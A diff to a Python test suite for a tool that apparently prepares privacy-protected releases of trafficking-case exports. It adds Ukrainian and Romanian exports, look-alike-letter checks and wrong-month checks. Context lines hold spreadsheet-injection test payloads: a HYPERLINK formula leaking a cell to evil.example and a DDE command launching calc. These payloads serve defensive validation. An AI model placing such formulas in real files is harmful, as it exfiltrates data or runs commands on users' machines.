@@ -64,6 +64,7 @@ MAPPING = """
 """
 UKRAINIAN = "Київ: дзвінок на гарячу лінію, повторне звернення матері"
 POLISH = "Zgłoszenie z Łodzi: pracownik sezonowy, ciężka praca bez żadnych dokumentów"
+
 FORMULAS = (
     '=HYPERLINK("http://evil.example/x?leak="&A1,"Click for details")',
     "+cmd|' /C calc'!A0",
@@ -95,6 +96,85 @@ def table(header: Sequence[str], rows: Sequence[Sequence[str]], *, delimiter: st
     writer.writerow(header)
     writer.writerows(rows)
     return buffer.getvalue()
+
+
+#: A Ukrainian export (Windows-1251 in the tests) with its own column names, and its mapping file.
+UKRAINIAN_HEADER = (
+    "Номер особи",
+    "Номер справи",
+    "Дата реєстрації",
+    "Стать",
+    "Громадянство",
+    "Вид експлуатації",
+    "Країна експлуатації",
+    "Примітки",
+)
+UKRAINIAN_MAPPING = """
+[columns]
+"Номер особи" = "ext_PersonID"
+"Номер справи" = "ext_CaseID"
+"Дата реєстрації" = "ext_RegistrationDate"
+"Стать" = "prs_Gender"
+"Громадянство" = "prs_Citizenship"
+"Вид експлуатації" = "vic_TypeOfExploitation"
+"Країна експлуатації" = "vic_LocationOfExploitation"
+
+[values.prs_Gender]
+"жінка" = "Female"
+"чоловіча" = "Male"
+
+[values.prs_Citizenship]
+"Україна" = "UA"
+"Молдова" = "MD"
+
+[values.vic_TypeOfExploitation]
+"трудова" = "ForcedLabour"
+"сексуальна" = "SexualExploitation"
+
+[values.vic_LocationOfExploitation]
+"Польща" = "PL"
+"Німеччина" = "DE"
+"""
+
+
+UKRAINIAN_ROWS = (
+    ("1", "C1", "2025-03-04", "жінка", "Україна", "сексуальна", "Польща", UKRAINIAN),
+    ("2", "C2", "2025-03-11", "чоловіча", "Молдова", "трудова", "Німеччина", ""),
+    ("3", "C2", "2025-03-12", "жінка", "Україна", "трудова", "Польща", "повторне звернення"),
+)
+
+
+def UKRAINIAN_CASES(*, drop: str | None = None, gender: str = "чоловіча") -> str:
+    rows = [list(row) for row in UKRAINIAN_ROWS]
+    rows[1][3] = gender
+    keep = [i for i, name in enumerate(UKRAINIAN_HEADER) if name != drop]
+    return table([UKRAINIAN_HEADER[i] for i in keep], [[row[i] for i in keep] for row in rows])
+
+
+#: A Romanian export as Windows-1250 writes it: cedilla letters (ţ), where the mapping has comma-below ones (ț).
+ROMANIAN_MAPPING = """
+[columns]
+"Nr. persoană" = "ext_PersonID"
+"Data înregistrării" = "ext_RegistrationDate"
+"Cetățenie" = "prs_Citizenship"
+"Țara exploatării" = "vic_LocationOfExploitation"
+
+[values.prs_Citizenship]
+"România" = "RO"
+"Republica Moldova" = "MD"
+
+[values.vic_LocationOfExploitation]
+"Italia" = "IT"
+"Spania" = "ES"
+"""
+ROMANIAN_CASES = table(
+    ("Nr. persoană", "Data înregistrării", "Cetăţenie", "Ţara exploatării", "Observaţii"),
+    [
+        ("1", "2025-03-04", "România", "Italia", "Înregistrată la Iaşi"),
+        ("2", "2025-03-09", "Republica Moldova", "Spania", "Sunat din Bălţi, muncă agricolă"),
+        ("3", "2025-03-21", "România", "Spania", ""),
+    ],
+)
 
 
 def cases(**changes: str) -> str:
@@ -444,6 +524,86 @@ HOSTILE: tuple[Export, ...] = (
         "cases.json, record 2, field vic_TypeOfExploitation: '=SUM(A1;B1)' is not accepted",
         name="cases.json",
     ),
+    # ---- checks of the whole export (issue 14): nothing spent on a wrong export
+    refused(
+        "a column the mapping names is missing from the export",
+        UKRAINIAN_CASES(drop="Країна експлуатації").encode("cp1251"),
+        'cases.csv, row 1: expected the column "Країна експлуатації" that mapping.toml maps to '
+        "vic_LocationOfExploitation ([columns]); the export has no such column. Export it with that column, or delete "
+        "the line from [columns] if your system does not record it",
+        mapping=UKRAINIAN_MAPPING,
+    ),
+    refused(
+        "a mapped header with a look-alike letter",
+        UKRAINIAN_CASES().replace("Стать", "Cтать").encode("cp1251"),  # a Latin C typed for the Cyrillic С
+        'cases.csv, row 1: expected the column "Стать" that mapping.toml maps to prs_Gender ([columns]); the export '
+        "has no such column (its header \"Cтать\" looks the same but has Latin 'C' (U+0043) where 'Стать' has Cyrillic "
+        "'С' (U+0421): correct one of the two)",
+        mapping=UKRAINIAN_MAPPING,
+    ),
+    refused(
+        "a mapped value with a Latin letter among Cyrillic ones",
+        UKRAINIAN_CASES(gender="жінкa").encode("cp1251", errors="strict"),
+        "cases.csv, row 3, column Стать (prs_Gender): 'жінкa' is not accepted; expected one of Female, Feminine, Male, "
+        "Man, Masculine, NonConforming, NonSpecifiedUnknown, Trans/Transgender/NonConforming, Transgender/NonConforming"
+        ", TransgenderFeminine, TransgenderMasculine, Unknown, Woman; did you mean 'жінка' (mapping.toml, "
+        "[values.prs_Gender])? This value has Latin 'a' (U+0061) where 'жінка' has Cyrillic 'а' (U+0430)",
+        "Correct the export, or its mapping file mapping.toml ([columns] for column names, [values.<field>] for "
+        "values), and run prepare again; nothing was spent.",
+        mapping=UKRAINIAN_MAPPING,
+    ),
+    refused(
+        "an HTCDS value with a Cyrillic letter",
+        cases(prs_Gender="Femаle"),  # Cyrillic а
+        "cases.csv, row 3, column prs_Gender: 'Femаle' is not accepted; expected one of Female,",
+        "; did you mean 'Female'? This value has Cyrillic 'а' (U+0430) where 'Female' has Latin 'a' (U+0061)",
+    ),
+    refused(
+        "the wrong month: every person is registered in the next one",
+        table(HEADER, [(*row[:2], "2025-04" + row[2][7:], *row[3:]) for row in ROWS]),
+        "cases.csv: expected persons registered in 2025-03 (--period); none of its persons is: they were registered "
+        "in 2025-04. Check --period and that this is the month's export; if 2025-03 really had nobody to count, pass "
+        "--allow-empty",
+        "Nothing was spent. Correct what is named above, or pass the option it names if the export is right",
+    ),
+    refused(
+        "the wrong month with a late entry of the month asked",
+        table(HEADER, [ROWS[0], *((f"Q{i}", f"D{i}", "2025-04-02", *ROWS[1][3:]) for i in range(9))]),
+        "cases.csv: expected more of its persons registered in 2025-03 (--period); few were, and most were registered "
+        "in 2025-04 (its persons fall in 2025-03, 2025-04). Check --period and that this is the month's export; if it "
+        "really covers several months, pass --allow-other-months",
+    ),
+    refused(
+        "contacts of another month",
+        VALID_CSV,
+        "contacts.csv: expected contacts made in 2025-03 (--period); none of its contacts is: they were made in "
+        "2025-05.",
+        contacts=table(CONTACTS_HEADER, [("K1", "2025-05-02", "phone", "Tip", "")]).encode(),
+    ),
+    refused(
+        "no ext_PersonID: every row would count as a person",
+        table(HEADER[1:], [row[1:] for row in ROWS]),
+        "cases.csv: expected a person identifier column, ext_PersonID (or a column the mapping maps to it): without "
+        "one every row counts as a person, so a person with several rows (one per hte_ event is the usual shape) "
+        "would be counted several times and protected less than the release declares. Add the column to the export; "
+        "or, if every row is a person of its own, pass --rows-are-persons (the release then declares the weaker unit "
+        "of privacy record-month, and the hub shows it)",
+    ),
+    refused(
+        "more than half of the persons unknown in a dimension",
+        table(HEADER, [(*row[:4], "", *row[5:]) if i else row for i, row in enumerate(ROWS)]),
+        "cases.csv: expected at most half of the persons of 2025-03 unknown in gender (prs_Gender); more than half "
+        "are. Check that the column holds what its name or the mapping says and that its values are mapped; to "
+        "release it as it is, pass --allow-unknown",
+    ),
+    refused(
+        "a mapping that still holds a decision to make",
+        UKRAINIAN_CASES().encode("cp1251"),
+        'mapping.toml, [values.prs_Gender] чоловіча: expected a decision instead of "?" (written by '
+        '`tipshare-node mapping init` where you must choose): a value prs_Gender accepts, a list of them, or "" (not '
+        "recorded)",
+        mapping=UKRAINIAN_MAPPING.replace('"чоловіча" = "Male"', '"чоловіча" = "?"'),
+    ),
     # ---- the contacts file
     refused(
         "a contacts file with a header only",
@@ -660,6 +820,36 @@ ACCEPTED: tuple[Export, ...] = (
     ),
     Export("a header only, with --allow-empty", table(HEADER, []).encode(), (), args=("--allow-empty",)),
     Export(
+        "a Ukrainian export in Windows-1251 through its mapping",
+        UKRAINIAN_CASES().encode("cp1251"),
+        (),
+        mapping=UKRAINIAN_MAPPING,
+    ),
+    Export(
+        "a Romanian export with cedilla headers, its mapping with comma-below letters",
+        ROMANIAN_CASES.encode("cp1250"),
+        (),
+        mapping=ROMANIAN_MAPPING,
+    ),
+    Export(
+        "no ext_PersonID, with --rows-are-persons",
+        table(HEADER[1:], [row[1:] for row in ROWS]).encode(),
+        (),
+        args=("--rows-are-persons",),
+    ),
+    Export(
+        "a dimension mostly unknown, with --allow-unknown",
+        table(HEADER, [(*row[:4], "", *row[5:]) if i else row for i, row in enumerate(ROWS)]).encode(),
+        (),
+        args=("--allow-unknown",),
+    ),
+    Export(
+        "a late entry of the month asked, with --allow-other-months",
+        table(HEADER, [ROWS[0], *((f"Q{i}", f"D{i}", "2025-04-02", *ROWS[1][3:]) for i in range(9))]).encode(),
+        (),
+        args=("--allow-other-months",),
+    ),
+    Export(
         "JSON Lines with long integers",
         b"\r\n".join(as_json(r) for r in records(ext_PersonID=10**40)) + b"\r\n",
         (),
@@ -676,3 +866,91 @@ def test_the_control_exports_are_accepted_and_released(desk: Desk, export: Expor
     assert "Traceback" not in run.out + run.err
     assert snapshot(desk.home) != before
     assert [(r["period"], r["revision"], r["status"]) for r in desk.releases()] == [(PERIOD, 1, "prepared")]
+
+
+# ---------------------------------------------------------------- what the officer is shown, and what is declared
+
+
+def test_cedilla_headers_and_values_read_as_their_comma_below_mapping(desk: Desk) -> None:
+    run = desk.prepare(
+        Export("romanian", ROMANIAN_CASES.encode("cp1250"), (), mapping=ROMANIAN_MAPPING, args=("--json",))
+    )
+    assert run.status == 0, run.err
+    assert "    citizenship (persons): 0% unknown\n" in run.err
+    assert "    country_of_exploitation (persons): 0% unknown\n" in run.err
+    assert "cases.csv (csv, cp1250): 3 rows read; 3 persons, 3 of them in 2025-03 (3 rows)." in run.err
+    assert json.loads(run.out)["unit"] == "person-month"
+
+
+def test_the_local_summary_names_rows_persons_unknowns_and_mapping_entries(desk: Desk) -> None:
+    second_row = ("1", "C1", "2025-03-04", "жінка", "Україна", "сексуальна", "Польща", "друга подія")
+    february = ("9", "C9", "2025-02-20", "жінка", "Україна", "трудова", "Польща", "")
+    export = table(UKRAINIAN_HEADER, [*UKRAINIAN_ROWS, second_row, february]).encode("cp1251")
+    run = desk.prepare(Export("summary", export, (), mapping=UKRAINIAN_MAPPING))
+    assert run.status == 0, run.err
+    assert run.err.startswith("Summary of the export for 2025-03 (for you only: never stored, never sent):\n")
+    assert "  cases.csv (csv, cp1251): 5 rows read; 4 persons, 3 of them in 2025-03 (4 rows).\n" in run.err
+    assert "    other months: 2025-02 1\n" in run.err
+    assert "    not counted: 1 rows of persons registered in other months than 2025-03\n" in run.err
+    assert "    gender (persons): 0% unknown\n" in run.err
+    assert "    recruiter_relation (persons): 100% unknown (no column: ext_RecruiterRelation, " in run.err
+    assert "  Mapping mapping.toml: columns used: Номер особи, Номер справи, Дата реєстрації, Стать" in run.err
+    assert "    [values.prs_Citizenship]: 2 of 2 values found in the export\n" in run.err
+    assert "    [values.vic_LocationOfExploitation]: 2 of 2 values found in the export\n" in run.err
+    assert "  Unit of privacy: person-month.\n" in run.err
+    assert "Summary" not in run.out  # the summary is for the terminal: never in a document a script might keep
+    unmapped = desk.prepare(
+        Export("unused", export, (), mapping=UKRAINIAN_MAPPING + '"Франція" = "FR"\n', args=("--check",))
+    )
+    assert "    [values.vic_LocationOfExploitation]: 2 of 3 values found in the export; never found: 'Франція'\n" in (
+        unmapped.err
+    )
+
+
+def test_rows_counted_as_persons_declare_the_record_month_unit(desk: Desk) -> None:
+    export = Export(
+        "rows", table(HEADER[1:], [row[1:] for row in ROWS]).encode(), (), args=("--rows-are-persons", "--json")
+    )
+    run = desk.prepare(export)
+    assert run.status == 0, run.err
+    assert json.loads(run.out)["unit"] == "record-month"
+    assert "  Unit of privacy: record-month, not person-month:\n" in run.err
+    assert "    cases.csv: no ext_PersonID column: every row counts as a person (--rows-are-persons).\n" in run.err
+    text = desk.run("--home", str(desk.home), "prepare", "--period", PERIOD, str(desk.folder / "cases.csv"))
+    assert "Unit of privacy: record-month. The noise protects each record of your export in the month" in text.out
+
+
+def test_contacts_without_a_contactor_id_declare_the_record_month_unit(desk: Desk) -> None:
+    anonymous = contacts(ext_ContactorID="").encode()
+    run = desk.prepare(Export("anonymous", VALID_CSV, (), contacts=anonymous, args=("--json",)))
+    assert run.status == 0, run.err
+    assert json.loads(run.out)["unit"] == "record-month"
+    assert (
+        "    contacts.csv: 1 contacts of 2025-03 have no ext_ContactorID: each counts as a contactor of its own, so a "
+        "caller who called several times without one is protected less than a person."
+    ) in run.err
+
+
+def test_prepare_check_reads_checks_and_summarises_without_touching_the_home(desk: Desk) -> None:
+    before = snapshot(desk.home)
+    run = desk.prepare(Export("check", VALID_CSV, (), contacts=contacts().encode(), args=("--check",)))
+    assert run.status == 0, run.err
+    assert run.out.startswith("Check passed: cases.csv and contacts.csv can be released for 2025-03 (8 tables, unit")
+    assert "Nothing was drawn, spent or stored." in run.out
+    assert "Summary of the export for 2025-03" in run.err
+    assert snapshot(desk.home) == before
+    document = desk.prepare(Export("check", VALID_CSV, (), args=("--check", "--json")))
+    assert json.loads(document.out) == {
+        "period": "2025-03",
+        "check": "passed",
+        "cases": str(desk.folder / "cases.csv"),
+        "contacts": None,
+        "tables": sorted(n for n in json.loads(document.out)["tables"]),
+        "unit": "person-month",
+        "release": None,
+    }
+    refused_run = desk.prepare(Export("check", cases(prs_Gender="Femаle").encode(), (), args=("--check",)))
+    assert refused_run.status == 1
+    assert "did you mean 'Female'?" in refused_run.err
+    assert snapshot(desk.home) == before
+    assert desk.releases() == []
